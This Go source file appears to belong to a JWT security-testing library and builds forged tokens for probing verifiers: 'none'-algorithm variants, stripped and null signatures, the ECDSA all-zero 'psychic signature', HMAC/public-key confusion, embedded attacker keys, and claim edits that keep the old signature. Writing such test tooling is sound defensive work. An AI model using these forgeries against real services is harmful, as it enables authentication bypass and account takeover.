// Package tamper builds the classic forged-token variants used to test
// JWT verifiers: unsigned "none" tokens, stripped and null signatures,
// HMAC/public-key algorithm confusion, embedded attacker keys, the ECDSA
// "psychic signature", and claim edits that keep the original signature.
//
// Every function works on a clone; the token passed in is never modified.
package tamper

import (
	"crypto"
	"fmt"

	"github.com/go-jose/go-jose/v4"
	"github.com/picatz/rawjwt/pkg/base64"
	"github.com/picatz/rawjwt/pkg/header"
	"github.com/picatz/rawjwt/pkg/jwa"
	"github.com/picatz/rawjwt/pkg/raw"
	"github.com/picatz/rawjwt/pkg/signer"
)

// NoneVariants are the spellings of "none" that verifiers have been known
// to accept when they compare algorithm names case-insensitively.
var NoneVariants = []string{"none", "None", "NONE", "nOnE"}

// NoneAlgorithm declares the given "none" spelling in the header and
// removes the signature.
func NoneAlgorithm(t *raw.Token, variant string) (*raw.Token, error) {
	c := t.Clone()
	if err := c.SetHeaderField(header.Algorithm, variant); err != nil {
		return nil, err
	}
	c.SetSignatureBytes(nil)
	return c, nil
}

// AllNoneVariants returns one unsigned token per entry in NoneVariants.
func AllNoneVariants(t *raw.Token) ([]*raw.Token, error) {
	out := make([]*raw.Token, 0, len(NoneVariants))
	for _, variant := range NoneVariants {
		c, err := NoneAlgorithm(t, variant)
		if err != nil {
			return nil, fmt.Errorf("failed to build %q variant: %w", variant, err)
		}
		out = append(out, c)
	}
	return out, nil
}

// StripSignature keeps the header and payload and drops the signature.
func StripSignature(t *raw.Token) *raw.Token {
	c := t.Clone()
	c.SetSignatureBytes(nil)
	return c
}

// NullSignature replaces the signature with a single zero byte.
func NullSignature(t *raw.Token) *raw.Token {
	c := t.Clone()
	c.SetSignatureBytes([]byte{0})
	return c
}

// PsychicSignature declares ES256 and sets an all-zero r||s signature,
// which vulnerable ECDSA verifiers accept for any input (CVE-2022-21449).
func PsychicSignature(t *raw.Token) (*raw.Token, error) {
	c := t.Clone()
	if err := c.SetHeaderField(header.Algorithm, jwa.ES256); err != nil {
		return nil, err
	}
	c.SetSignatureBytes(make([]byte, 64))
	return c, nil
}

// KeyConfusion declares an HMAC algorithm and signs the token using the
// verifier's public key bytes as the shared secret. A verifier that picks
// the algorithm from the header and passes its public key to whatever
// primitive that selects will accept the result.
func KeyConfusion(t *raw.Token, alg jwa.Algorithm, publicKeyPEM []byte) (*raw.Token, error) {
	s, err := signer.HMAC(alg, publicKeyPEM)
	if err != nil {
		return nil, fmt.Errorf("key confusion requires an HMAC algorithm: %w", err)
	}
	return Resign(t, s)
}

// EmbeddedJWK signs the token with an attacker key and embeds the matching
// public JWK in the "jwk" header, with its RFC 7638 thumbprint as "kid".
// Verifiers that trust the embedded key accept it (CVE-2018-0114).
func EmbeddedJWK(t *raw.Token, key crypto.Signer, alg jwa.Algorithm) (*raw.Token, error) {
	s, err := signer.New(alg, key)
	if err != nil {
		return nil, err
	}

	jwk := jose.JSONWebKey{
		Key:       key.Public(),
		Algorithm: alg,
		Use:       "sig",
	}

	thumbprint, err := jwk.Thumbprint(crypto.SHA256)
	if err != nil {
		return nil, fmt.Errorf("failed to compute JWK thumbprint: %w", err)
	}
	jwk.KeyID = base64.Encode(thumbprint)

	jwkJSON, err := jwk.MarshalJSON()
	if err != nil {
		return nil, fmt.Errorf("failed to marshal JWK: %w", err)
	}

	c := t.Clone()
	if err := c.SetHeaderField(header.KeyID, jwk.KeyID); err != nil {
		return nil, err
	}
	if err := c.SetHeaderFieldRaw(header.JSONWebKey, string(jwkJSON)); err != nil {
		return nil, err
	}

	return Resign(c, s)
}

// InjectClaim sets the payload value at path and keeps the original
// signature.
func InjectClaim(t *raw.Token, path string, value any) (*raw.Token, error) {
	c := t.Clone()
	if err := c.SetPayloadField(path, value); err != nil {
		return nil, err
	}
	return c, nil
}

// Resign declares s.Algorithm() in the header and signs with s.
func Resign(t *raw.Token, s signer.Signer) (*raw.Token, error) {
	c := t.Clone()
	if err := c.SetHeaderField(header.Algorithm, s.Algorithm()); err != nil {
		return nil, err
	}
	if err := c.CalculateAndSetSignature(s); err != nil {
		return nil, fmt.Errorf("failed to sign %s token: %w", s.Algorithm(), err)
	}
	return c, nil
}
